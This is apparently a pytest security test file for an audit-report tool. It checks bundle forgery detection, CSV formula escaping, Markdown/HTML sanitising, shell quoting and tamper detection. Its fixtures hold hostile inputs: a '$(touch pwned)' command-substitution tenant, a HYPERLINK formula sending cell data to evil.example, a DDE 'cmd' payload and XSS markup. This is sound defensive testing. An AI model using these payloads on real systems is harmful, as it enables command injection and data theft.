"""Reports and bundles as an attacker shapes them: re-signed bundles, formulas, markup,
shell metacharacters, oversized members, malformed manifests, a tampered store."""

from __future__ import annotations

import csv
import io
import re
import shlex
import sqlite3
import zipfile
from pathlib import Path
from typing import Any

import orjson
import pytest

from auditkit.cli import main
from auditkit.integrity import generate_key
from auditkit.reports import build_report, verify_bundle
from auditkit.reports import bundle as bundle_mod
from auditkit.store import Store
from tests.conftest import make_events

EVIL_TENANT = "acme$(touch pwned)"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP = "<img src=x onerror=alert(1)>[here](javascript:alert(2))"


@pytest.fixture(scope="module")
def store_path(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("hostile dir $(id)") / "audit.db"
    store = Store.init(str(path))
    events = make_events(60, EVIL_TENANT)
    for i, e in enumerate(events):
        e["actor"]["id"] = FORMULA if i % 2 else MARKUP
        e["actor"]["name"] = "+cmd|' /C calc'!A0"
        e["action"] = "user.login"
        e["outcome"] = "failure" if i % 3 else "success"
    store.append(events)
    return str(path)


def _rezip(src: Path, dst: Path, change: Any) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = change(info.filename, zin.read(info.filename))
            if data is not None:
                zout.writestr(info, data)
    return dst


@pytest.fixture(scope="module")
def bundle(store_path: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    report = build_report(Store.open(store_path), framework="pci-dss")
    return report.write(tmp_path_factory.mktemp("b") / "evidence.zip", charts=False)


def test_a_bundle_resigned_with_any_key_is_never_intact_without_a_trusted_key(
    bundle: Path, store_path: str, tmp_path: Path, capsys: Any
) -> None:
    from auditkit.integrity import key_fingerprint, public_key_pem

    attacker = generate_key()
    fp = key_fingerprint(attacker.public_key())

    def forge(name: str, data: bytes) -> bytes:
        if name == "report.json":
            return data.replace(b"FAIL", b"PASS")
        return data

    edited = _rezip(bundle, tmp_path / "edited.zip", forge)
    with zipfile.ZipFile(edited) as z:
        manifest = orjson.loads(z.read("manifest.json"))
        for name in manifest["files"]:
            data = z.read(name)
            manifest["files"][name] = {
                "sha256": __import__("hashlib").sha256(data).hexdigest(),
                "size": len(data),
            }
    manifest["signature"]["key_fingerprint"] = fp
    body = orjson.dumps(manifest)
    sig = __import__("base64").b64encode(attacker.sign(body))
    forged = _rezip(
        edited,
        tmp_path / "forged.zip",
        lambda n, d: {
            "manifest.json": body,
            "manifest.sig": sig,
            "public_key.pem": public_key_pem(attacker.public_key()).encode(),
        }.get(n, d),
    )
    # On its own key the forgery is self-consistent: never INTACT, exit 3 with the fix.
    assert verify_bundle(forged).status == "UNANCHORED"
    assert main(["report", "verify", str(forged)]) == 3
    out = capsys.readouterr().out
    assert out.startswith("UNANCHORED") and "--public-key" in out
    # Against the store's key it is named.
    assert main(["report", "verify", str(forged), "--store", store_path]) == 1
    assert "wrong_key" in capsys.readouterr().out
    assert main(["report", "verify", str(bundle), "--store", store_path]) == 0


def test_bundle_csvs_carry_no_formula(bundle: Path) -> None:
    with zipfile.ZipFile(bundle) as z:
        csvs = [n for n in z.namelist() if n.endswith(".csv")]
        seen = 0
        for name in csvs:
            for row in csv.reader(io.StringIO(z.read(name).decode())):
                for value in row:
                    assert value[:1] not in ("=", "+", "@", "\t", "\r"), (name, value)
                    seen += "HYPERLINK" in value
    assert seen, "the hostile actor id should appear in the evidence (escaped)"


@pytest.mark.parametrize(
    "entry",
    ["not an object", 17, None, {"sha256": 5}, {"sha256": "ab", "size": 1}, {"size": "x"}],
)
def test_a_malformed_manifest_entry_is_named_not_a_traceback(
    bundle: Path, tmp_path: Path, entry: Any, capsys: Any
) -> None:
    def change(name: str, data: bytes) -> bytes:
        if name != "manifest.json":
            return data
        doc = orjson.loads(data)
        doc["files"]["report.html"] = entry
        return orjson.dumps(doc)

    bad = _rezip(bundle, tmp_path / "bad.zip", change)
    result = verify_bundle(bad)
    assert result.status == "TAMPERED"
    assert result.problems[0].kind == "malformed"
    assert "report.html" in result.problems[0].detail
    assert main(["report", "verify", str(bad)]) == 1
    assert "malformed" in capsys.readouterr().out


def test_members_larger_than_signed_or_the_cap_are_named_unread(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    grown = _rezip(
        bundle,
        tmp_path / "grown.zip",
        lambda n, d: d + b"\0" * 10_000_000 if n == "report.md" else d,
    )
    problems = {(p.kind, p.path) for p in verify_bundle(grown).problems}
    assert ("altered", "report.md") in problems
    # A member over the absolute cap (a zip bomb, an extra file) is never inflated.
    monkeypatch.setattr(bundle_mod, "MAX_MEMBER_BYTES", 1000)
    monkeypatch.setattr(bundle_mod, "MAX_MANIFEST_BYTES", 10)
    result = verify_bundle(bundle)
    assert ("oversized", "manifest.json") in {(p.kind, p.path) for p in result.problems}


def _outside_fences(md: str) -> str:
    """The Markdown a renderer interprets: code fences (literal text) removed."""
    out, fence = [], None
    for line in md.splitlines():
        run = re.match(r"^(`{3,})", line)
        if fence is None and run:
            fence = run.group(1)
        elif fence is not None and line.startswith(fence) and line.strip("`") == "":
            fence = None
        elif fence is None:
            out.append(line)
    assert fence is None, "a code fence was left open"
    return "\n".join(out)


def test_markdown_shows_event_text_inert(store_path: str) -> None:
    md = build_report(Store.open(store_path), framework="soc2").render("md").decode()
    live = _outside_fences(md)
    assert "<img" not in live and "[here](javascript" not in live
    assert "&lt;img" in live


def test_event_text_cannot_close_a_code_fence() -> None:
    from auditkit.reports.render_md import _fenced

    block = _fenced("x\n```\n<script>alert(1)</script>\n````", "sh")
    assert block[0] == "`````sh" and block[-1] == "`````"
    assert _outside_fences("\n".join(block)) == ""


def test_shell_commands_in_reports_quote_tenants_and_paths(store_path: str) -> None:
    report = build_report(Store.open(store_path), framework="soc2")
    commands = [c for s in report.sections for c in s.commands]
    assert commands
    for line in commands:
        argv = shlex.split(line)
        assert EVIL_TENANT in argv or "checkpoint" in argv
        assert store_path in argv
    html = report.render("html").decode()
    assert "touch pwned)" in html


def test_a_report_over_a_tampered_store_is_written_and_exits_1(
    store_path: str, tmp_path: Path, capsys: Any
) -> None:
    copy = tmp_path / "copy.db"
    src = sqlite3.connect(store_path)
    src.backup(dst := sqlite3.connect(copy))
    src.close()
    dst.execute("DROP TRIGGER IF EXISTS events_no_update")
    for (name,) in dst.execute("SELECT name FROM sqlite_master WHERE type='trigger'").fetchall():
        dst.execute(f'DROP TRIGGER "{name}"')
    dst.execute("UPDATE events SET outcome='success' WHERE seq=4")
    dst.commit()
    dst.close()
    for suffix in (".key", ".pub"):
        Path(store_path + suffix).exists() and (tmp_path / f"copy.db{suffix}").write_bytes(
            Path(store_path + suffix).read_bytes()
        )
    for fmt in ("html", "md", "json", "csv", "bundle"):
        out = tmp_path / f"r.{fmt}"
        code = main(
            ["report", str(copy), "--framework", "pci-dss", "--format", fmt, "-o", str(out)]
        )
        err = capsys.readouterr().err
        assert code == 1, fmt
        assert "TAMPERED" in err and out.exists(), fmt
    assert main(["report", str(copy), "--framework", "soc2", "--format", "json"]) == 1
    captured = capsys.readouterr()
    assert orjson.loads(captured.out)["framework"]["id"] == "soc2"
    assert "TAMPERED" in captured.err
